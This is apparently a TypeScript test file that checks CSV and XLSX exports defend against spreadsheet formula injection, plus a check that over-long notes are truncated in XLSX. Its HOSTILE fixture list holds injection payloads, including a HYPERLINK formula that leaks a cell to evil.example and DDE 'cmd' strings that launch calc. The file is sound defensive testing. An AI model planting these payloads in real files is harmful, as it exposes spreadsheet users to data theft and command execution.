import ExcelJS from 'exceljs';
import { beforeAll, expect, it } from 'vitest';
import { describeEachStore, makeParty, resetStore } from '../../../test/support/stores.js';
import type { Pledge } from '../../core/types.js';
import { partyEntity, pledgeEntity } from '../../db/entities/dataset-entities.js';
import type { Store } from '../../db/open-store.js';
import { insertRecord, listAllRecords } from '../../db/record.repository.js';
import { createServices } from '../create-services.js';
import { type ExportFile, formatExport, readExportTables } from './export-records.js';
import { importExchangeFile } from './import-exchange-file.js';
import { MAX_CELL_LENGTH, type TruncatedCell } from './write-tables.js';

// Issue 21 item 11, on PGlite and PostgreSQL: the CSV export wrote `=HYPERLINK(…)` and `+cmd|' /C calc'!A0` as
// they were, for a spreadsheet to run; and one 70,000-character note (stored before free text was limited) made
// the XLSX export refuse the whole store.

const NOW = new Date('2026-01-12T10:00:00.000Z');
const HOSTILE = ['=HYPERLINK("https://evil.example/?leak="&A1,"click")', "+cmd|' /C calc'!A0", '-2+3', '@SUM(1+1)*cmd|\' /C calc\'!A0', '\t=1+1', '\r=1+1', "'=already quoted", "'harmless quote"];

const pledge = (id: string, note: string): Pledge => ({ id, party: 'DE', capability: 'land.personnel', quantity: { min: 5, max: 5 }, areas: ['any'], status: 'committed', confidentiality: 'coalition', condition: 'true', sources: [], note });

function bytesOf(file: ExportFile | undefined): Uint8Array {
  if (!file) throw new Error('no file');
  return typeof file.content === 'string' ? new TextEncoder().encode(file.content) : file.content;
}

async function noteCells(file: ExportFile | undefined): Promise<unknown[]> {
  const workbook = new ExcelJS.Workbook();
  await workbook.xlsx.load(new Uint8Array(bytesOf(file)).buffer);
  const sheet = workbook.getWorksheet('pledges');
  if (!sheet) throw new Error('no pledges sheet');
  const column = (sheet.getRow(1).values as unknown[]).indexOf('note');
  return Array.from({ length: sheet.rowCount - 1 }, (_, i) => sheet.getRow(i + 2).getCell(column).value);
}

describeEachStore('export guard', (suite) => {
  let second: Store;
  const notes = new Map(HOSTILE.map((note, i) => [`de-hostile-${i}`, note]));

  beforeAll(async () => {
    const services = createServices(suite.store());
    await services.records.create({ name: 'setup' }, partyEntity, makeParty('DE'));
    for (const [id, note] of notes) await services.records.create({ name: 'setup' }, pledgeEntity, pledge(id, note));
    second = await suite.fresh();
  }, 120_000);

  async function importInto(file: ExportFile | undefined): Promise<Map<string, string | undefined>> {
    await resetStore(second);
    const services = createServices(second);
    await services.records.create({ name: 'setup' }, partyEntity, makeParty('DE'));
    await importExchangeFile(second, services.cache, { name: file?.name ?? '', bytes: bytesOf(file) }, { now: () => NOW });
    return new Map((await listAllRecords(second.db, pledgeEntity)).map((item) => [item.record.id, item.record.note]));
  }

  it('CSV: formula-like text gets a leading quote, and imports back to the original text', async () => {
    const [csv] = await formatExport(await readExportTables(suite.store().db, ['pledges']), 'csv', { now: NOW });
    const text = new TextDecoder().decode(bytesOf(csv));
    expect(text).toContain(`'=HYPERLINK(`);
    expect(text).toContain(`'+cmd|' /C calc'!A0`);
    // The note is a whole cell (more columns may follow it).
    expect(text).toMatch(/,'-2\+3(,|\n)/);
    expect(text).toContain(`''=already quoted`);
    expect(text).toMatch(/,'harmless quote(,|\n)/);
    // No cell of the file starts with a formula character (a cell starts after a comma or a line break, maybe quoted).
    expect(text).not.toMatch(/(^|,|\n)"?[=+@]/);
    expect(await importInto(csv)).toEqual(notes);
  });

  it('XLSX: the same guard in text cells, and the same round trip', async () => {
    const [xlsx] = await formatExport(await readExportTables(suite.store().db, ['pledges']), 'xlsx', { now: NOW });
    const cells = await noteCells(xlsx);
    expect(cells).toContain(`'=HYPERLINK("https://evil.example/?leak="&A1,"click")`);
    expect(cells.every((cell) => typeof cell === 'string' && !/^[=+\-@\t\r]/.test(cell))).toBe(true);
    // XML has no carriage return in text: XLSX holds it as a line feed (CSV and JSON keep it).
    expect(await importInto(xlsx)).toEqual(new Map([...notes].map(([id, note]) => [id, note.replace('\r', '\n')])));
  });

  it('JSON is written and read as is', async () => {
    const [json] = await formatExport(await readExportTables(suite.store().db, ['pledges']), 'json', { now: NOW });
    expect(new TextDecoder().decode(bytesOf(json))).toContain('"note": "=HYPERLINK(');
    expect(await importInto(json)).toEqual(notes);
  });

  it('a 70,000-character note stored before the limit never blocks an export: cut with a marker in XLSX, whole in CSV and JSON', async () => {
    const long = `=${'x'.repeat(69_999)}`;
    await insertRecord(suite.store().db, pledgeEntity, pledge('de-long-note', long));
    const tables = await readExportTables(suite.store().db, ['pledges']);
    const cut: TruncatedCell[] = [];
    const [xlsx] = await formatExport(tables, 'xlsx', { now: NOW, onTruncated: (cell) => cut.push(cell) });
    expect(cut).toEqual([{ entity: 'pledges', id: 'de-long-note', column: 'note', length: 70_000 }]);
    const cell = (await noteCells(xlsx)).find((value) => typeof value === 'string' && value.startsWith("'=xxx"));
    expect(typeof cell === 'string' && cell.length).toBe(MAX_CELL_LENGTH);
    expect(cell).toMatch(/ \[…cut: 70000 characters in the store, an XLSX cell holds 32767; export as CSV or JSON for the whole text\]$/);
    const [csv] = await formatExport(tables, 'csv', { now: NOW });
    expect(new TextDecoder().decode(bytesOf(csv))).toContain(`'${long}`);
    const [json] = await formatExport(tables, 'json', { now: NOW });
    expect(new TextDecoder().decode(bytesOf(json))).toContain(long);
  });
});
